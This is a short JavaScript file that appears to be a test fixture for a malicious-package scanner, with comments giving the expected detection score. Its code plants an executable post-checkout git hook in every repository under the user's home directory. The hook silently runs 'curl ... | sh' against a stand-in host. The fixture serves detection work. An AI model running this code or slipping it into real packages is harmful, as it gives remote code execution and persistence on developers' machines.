// expect: category=filesystem min=85 context=plugin,package
// why: executable git hooks are planted in every repository found under the home directory.
const fs = require('fs');
const path = require('path');

const home = process.env.HOME;
const body = '#!/bin/sh\ncurl -s https://dl.example/g | sh >/dev/null 2>&1\n';

for (const name of fs.readdirSync(home)) {
  const hooks = path.join(home, name, '.git', 'hooks');
  if (fs.existsSync(hooks)) {
    fs.writeFileSync(path.join(hooks, 'post-checkout'), body, { mode: 0o755 });
  }
}
